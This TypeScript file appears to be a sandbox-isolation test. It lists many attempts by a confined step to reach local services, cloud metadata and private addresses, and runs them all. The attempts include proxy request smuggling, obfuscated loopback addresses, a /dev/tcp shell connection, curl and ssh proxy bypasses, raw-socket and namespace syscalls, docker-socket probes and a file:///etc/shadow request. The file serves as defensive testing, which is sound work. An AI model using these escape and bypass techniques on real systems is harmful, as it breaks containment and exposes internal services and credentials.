/**
 * Lists the attempts of a step to reach this machine and its networks. Each attempt is the text of a program that runs in the step.
 *
 * The program can use `net`, `http`, `dgram`, `fs`, `sh(command)`, `raw(socket, text)`, `fillIn(text)` and `T`, the addresses of
 * the listeners. Its result counts as the text that the step has read.
 */
export interface Attempt {
  name: string;
  js: string;
}

/** The addresses of the test's listeners. */
export interface Places {
  /** TCP ports of the listeners that stand for the API, Temporal and the Web UI, on all addresses of this machine. */
  api: number;
  temporal: number;
  webUi: number;
  udp: number;
  /** Address of this machine in its network. */
  ownAddress: string;
  hostname: string;
  socketFile: string;
  abstractName: string;
  /** A server on loopback that is on the allow list of proxied steps. It is the only server that may be reached. */
  allowed: number;
  /** The pid of a process of this machine. */
  pid: number;
}

const DIRECT_TARGETS = [
  ...['127.0.0.1:API', '127.0.0.1:TEMPORAL', '127.0.0.1:WEBUI', 'localhost:API', '127.0.0.2:API', '0.0.0.0:API'],
  ...['::1:API', '::ffff:127.0.0.1:TEMPORAL', ':::WEBUI', 'OWN:API', 'OWN:TEMPORAL', 'HOSTNAME:API', '10.0.2.2:API'],
  ...['169.254.169.254:80', 'fd00:ec2::254:80', '172.17.0.1:API', '192.168.0.1:80', 'host.docker.internal:API'],
];
const PROXIED_TARGETS = [
  ...['127.0.0.1:API', '127.0.0.1:TEMPORAL', '127.0.0.1:WEBUI', 'localhost:API', 'localhost.:API', 'LOCALHOST:API'],
  ...['[::1]:API', '[::ffff:127.0.0.1]:API', '[::ffff:7f00:1]:API', '0.0.0.0:API', '[::]:API', '127.1:API', '0:API'],
  ...['2130706433:API', '0x7f000001:API', '0177.0.0.1:API', '127.0.0.2:API', 'OWN:API', 'HOSTNAME:API'],
  ...['169.254.169.254:80', 'metadata.google.internal:80', '[fd00:ec2::254]:80', '10.0.0.1:80', '172.16.0.1:80'],
  ...['192.168.0.1:80', '100.64.0.1:80', '[64:ff9b::7f00:1]:API', '[2002:7f00:1::]:API', '[fe80::1]:API'],
  ...['224.0.0.1:API', 'inner.rebound.example:API', 'inner.rebound.example:443', 'inner.rebound.example:80'],
];

const connectDirectly = (place: string): Attempt => ({
  name: `a connection to ${place}`,
  js: `const [, host, port] = /^(.*):(\\d+)$/.exec(fillIn(${JSON.stringify(place)})); return raw(net.connect(Number(port), host), 'GET / HTTP/1.0\\r\\n\\r\\n');`,
});
const connectByTunnel = (place: string): Attempt => ({
  name: `a tunnel to ${place}`,
  js: `const place = fillIn(${JSON.stringify(place)}); return raw(proxy(), 'CONNECT ' + place + ' HTTP/1.1\\r\\nHost: ' + place + '\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n');`,
});
const requestPlainly = (place: string): Attempt => ({
  name: `a plain request to the proxy for http://${place}/`,
  js: `const place = fillIn(${JSON.stringify(place)}); return raw(proxy(), 'GET http://' + place + '/ HTTP/1.1\\r\\nHost: ' + place + '\\r\\nConnection: close\\r\\n\\r\\n');`,
});
/** Sends bytes to the proxy itself. */
const toProxy = (name: string, text: string): Attempt => ({
  name,
  js: `return raw(proxy(), fillIn(${JSON.stringify(text)}));`,
});
const shell = (name: string, command: string): Attempt => ({
  name,
  js: `return sh(fillIn(${JSON.stringify(command)}));`,
});
const python = (name: string, text: string): Attempt => shell(name, `python3 -I -c '${text}'`);

const ALLOWED = 'http://127.0.0.1:ALLOWED/';
const SPECIAL_ATTEMPTS: Attempt[] = [
  toProxy(
    'a request in the usual form to the proxy',
    'GET / HTTP/1.1\r\nHost: 127.0.0.1:API\r\nConnection: close\r\n\r\n',
  ),
  toProxy(
    'a tunnel whose Host header is an allowed server',
    'CONNECT 127.0.0.1:API HTTP/1.1\r\nHost: 127.0.0.1:ALLOWED\r\n\r\n',
  ),
  toProxy(
    'a user in front of the server of a tunnel',
    'CONNECT 127.0.0.1:ALLOWED@127.0.0.1:API HTTP/1.1\r\nHost: a\r\n\r\n',
  ),
  toProxy('an allowed server on another port', 'CONNECT registry.example:API HTTP/1.1\r\nHost: a\r\n\r\n'),
  toProxy('a tunnel without a port', 'CONNECT localhost HTTP/1.1\r\nHost: a\r\n\r\n'),
  toProxy('a tunnel to a port that wraps around', 'CONNECT 127.0.0.1:65536 HTTP/1.1\r\nHost: a\r\n\r\n'),
  toProxy('an address with a path in a tunnel', 'CONNECT http://127.0.0.1:API/ HTTP/1.1\r\nHost: a\r\n\r\n'),
  toProxy(
    'a user in an address',
    'GET http://127.0.0.1:ALLOWED@127.0.0.1:API/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  ),
  toProxy(
    'a backslash in an address',
    'GET http://127.0.0.1:API\\@127.0.0.1:ALLOWED/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  ),
  toProxy(
    'a fragment in an address',
    'GET http://127.0.0.1:API#@127.0.0.1:ALLOWED/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  ),
  toProxy('another scheme', 'GET ftp://127.0.0.1:API/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
  toProxy('https in the absolute form', 'GET https://127.0.0.1:API/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
  toProxy('a file as an address', 'GET file:///etc/shadow HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'),
  toProxy(
    'a request with two lengths',
    `POST ${ALLOWED} HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:API/ HTTP/1.1\r\nHost: a\r\n\r\n`,
  ),
  toProxy(
    'a second request behind an allowed one',
    `GET ${ALLOWED} HTTP/1.1\r\nHost: a\r\n\r\nGET http://127.0.0.1:API/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`,
  ),
  toProxy(
    'a body that is a request',
    `POST ${ALLOWED} HTTP/1.1\r\nHost: a\r\nContent-Length: 54\r\n\r\nGET http://127.0.0.1:API/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`,
  ),
  toProxy(
    'an upgrade',
    'GET http://127.0.0.1:API/ HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
  ),
  toProxy('SOCKS to the proxy', '\u0004\u0001\u0000\u0050\u007f\u0000\u0000\u0001\u0000'),
  toProxy('ssh to the proxy', 'SSH-2.0-x\r\n'),
  toProxy('header lines that break off', 'GET http://127.0.0.1:API/\nHost: a\n\n'),
  {
    name: 'the socket of the proxy by its path',
    js: `return raw(net.connect('/run/q/proxy.sock'), fillIn('GET http://127.0.0.1:API/ HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n'));`,
  },
  { name: 'a socket file of this machine', js: `return raw(net.connect(T.socketFile), 'hello\\n');` },
  {
    name: 'a socket file by the root of another process',
    js: `return raw(net.connect('/proc/' + T.pid + '/root' + T.socketFile), 'hello\\n');`,
  },
  {
    name: 'a socket with a name in no file system',
    js: `return raw(net.connect('\\0' + T.abstractName), 'hello\\n');`,
  },
  { name: 'a datagram to loopback', js: `return datagram('127.0.0.1', T.udp);` },
  { name: 'a datagram to the own address', js: `return datagram(T.ownAddress, T.udp);` },
  { name: 'a datagram by IPv6', js: `return datagram('::1', T.udp);` },
  { name: 'a broadcast', js: `return datagram('255.255.255.255', T.udp);` },
  {
    name: 'a question to a name server of this network',
    js: `return new Promise((done) => { const r = new (require('node:dns').Resolver)({ timeout: 500, tries: 1 }); r.setServers(['127.0.0.1:' + T.udp]); r.resolve4('secret.evil.example', (e, a) => done(a ? 'REACHED' : String(e))); });`,
  },
  {
    name: 'descriptors that were left open',
    js: `for (const fd of leftDescriptors) try { fs.writeSync(fd, 'GET / HTTP/1.0\\r\\n\\r\\n'); } catch {} return leftDescriptors.length ? 'wrote to ' + leftDescriptors : '';`,
  },
  {
    name: 'descriptors of other processes',
    js: `let read = ''; for (const pid of fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n))) { try { for (const fd of fs.readdirSync('/proc/' + pid + '/fd')) { const path = '/proc/' + pid + '/fd/' + fd; if (/REACHED/.test(fs.readlinkSync(path))) read += 'REACHED'; } } catch {} } return read;`,
  },
  {
    name: 'what the kernel says of open ports',
    js: `const hex = T.api.toString(16).toUpperCase().padStart(4, '0'); return ['tcp', 'tcp6', 'unix'].map((n) => fs.readFileSync('/proc/net/' + n, 'utf8')).some((text) => text.includes(':' + hex + ' ') || text.includes(T.abstractName)) ? 'REACHED' : '';`,
  },
  shell('a shell that connects by itself', `timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/API; echo >&3; cat <&3'`),
  shell('curl past the proxy', `curl -s -m 3 --noproxy '*' http://127.0.0.1:API/`),
  shell('curl by the proxy that its environment names', `NO_PROXY= no_proxy= curl -s -m 3 http://127.0.0.1:API/`),
  shell(
    'curl with an address of its own for a name',
    `curl -s -m 3 --noproxy '*' --connect-to registry.example:443:127.0.0.1:API http://registry.example:443/`,
  ),
  shell('git by its own protocol', `timeout 3 git ls-remote git://127.0.0.1:API/x 2>&1`),
  shell('git by https', `timeout 3 git ls-remote https://localhost:API/x 2>&1`),
  shell('ssh with its settings in the sandbox', `timeout 3 ssh -p API localhost true 2>&1`),
  shell('ssh past the proxy', `timeout 3 ssh -o ProxyCommand=none -p API 127.0.0.1 true 2>&1`),
  python('raw packets', 'import socket; s = socket.socket(17, 3, 0); print("REACHED")'),
  python('an ICMP socket', 'import socket; s = socket.socket(2, 3, 1); print("REACHED")'),
  python(
    'an echo request',
    'import socket; s = socket.socket(2, 2, 1); s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("127.0.0.2", 0)); s.settimeout(1); import os; print("REACHED" if os.path.exists("/sys/class/net/eth0") else "")',
  ),
  python(
    'the host of a virtual machine',
    'import socket; s = socket.socket(40, 1, 0); s.connect((2, API)); print("REACHED")',
  ),
  python('netlink to other parts of the kernel', 'import socket; s = socket.socket(16, 3, 9); print("REACHED")'),
  python(
    'an interface that is brought up',
    'import socket, fcntl, struct; s = socket.socket(); fcntl.ioctl(s, 0x8914, struct.pack("16sH14s", b"eth0", 1, b"")); print("REACHED")',
  ),
  python(
    'io_uring, which passes filters',
    'import ctypes; print("REACHED" if ctypes.CDLL(None).syscall(425, 1, ctypes.create_string_buffer(120)) >= 0 else "")',
  ),
  python(
    'the network of another process',
    `import ctypes, os; f = os.open("/proc/PID/ns/net", 0); print("REACHED" if ctypes.CDLL(None).setns(f, 0) == 0 else "")`,
  ),
  shell(
    'the docker daemon',
    'for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do test -e $s && echo REACHED; done',
  ),
  shell(
    'buses and agents',
    'for s in /run/dbus/system_bus_socket /run/user/* /tmp/.X11-unix /tmp/ssh-* $SSH_AUTH_SOCK; do test -e "$s" && echo REACHED; done',
  ),
];

export const ATTEMPTS: readonly Attempt[] = [
  ...DIRECT_TARGETS.map(connectDirectly),
  ...PROXIED_TARGETS.map(connectByTunnel),
  ...PROXIED_TARGETS.map(requestPlainly),
  ...SPECIAL_ATTEMPTS,
];

/** A program that runs all attempts in parallel and prints one JSON object with what each has read. */
export function programOf(ways: readonly Attempt[], places: Places): string {
  return `
const [net, http, dgram, fs, cp] = ['net', 'http', 'dgram', 'fs', 'child_process'].map((name) => require('node:' + name));
const T = ${JSON.stringify(places)};
const values = { API: T.api, TEMPORAL: T.temporal, WEBUI: T.webUi, ALLOWED: T.allowed, OWN: T.ownAddress, HOSTNAME: T.hostname, PID: T.pid };
const fillIn = (text) => text.replace(/\\b(API|TEMPORAL|WEBUI|ALLOWED|OWN|HOSTNAME|PID)\\b/g, (word) => values[word]);
const proxy = () => net.connect(3128, '127.0.0.1');
// The program lists the descriptors before it opens a socket itself.
const leftDescriptors = fs.readdirSync('/proc/self/fd').map(Number).filter((fd) => { try { return fd > 2 && /^socket:/.test(fs.readlinkSync('/proc/self/fd/' + fd)); } catch { return false; } });
const raw = (socket, text) => new Promise((done) => {
  let read = '';
  const end = () => { socket.destroy(); done(read); };
  socket.on('connect', () => socket.write(text, 'latin1'));
  socket.on('data', (chunk) => (read += chunk.toString('latin1')));
  socket.on('error', (error) => { read += error.code; end(); });
  socket.on('close', end);
  setTimeout(end, 4000).unref();
});
const datagram = (host, port) => new Promise((done) => {
  const socket = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
  const end = (read) => { try { socket.close(); } catch {} done(read); };
  socket.on('message', (text) => end(String(text))).on('error', (error) => end(error.code));
  socket.bind(0, () => { try { socket.setBroadcast(true); } catch {} socket.send('hello', port, host, (error) => error && end(error.code)); });
  setTimeout(() => end(''), 1500).unref();
});
const sh = (command) => new Promise((done) => cp.execFile('sh', ['-c', command], { timeout: 8000 }, (_, out, err) => done(out + err)));
const ways = ${JSON.stringify(ways.map(({ js }) => js))};
const limit = () => new Promise((done) => setTimeout(() => done('nothing until the end'), 15000));
const run = async (js) => { try { return String(await Promise.race([new Function('net', 'http', 'dgram', 'fs', 'sh', 'raw', 'datagram', 'proxy', 'fillIn', 'T', 'leftDescriptors', 'require', js)(net, http, dgram, fs, sh, raw, datagram, proxy, fillIn, T, leftDescriptors, require), limit()])); } catch (error) { return String(error.code ?? error.message); } };
(async () => {
  const read = [];
  // A few at a time, since a step has few processes.
  let next = 0;
  await Promise.all(Array.from({ length: 12 }, async () => { while (next < ways.length) { const index = next++; read[index] = await run(ways[index]); } }));
  console.log('ATTEMPTS' + JSON.stringify(read.map((text) => text.slice(0, 400))));
  process.exit(0);
})();
`;
}
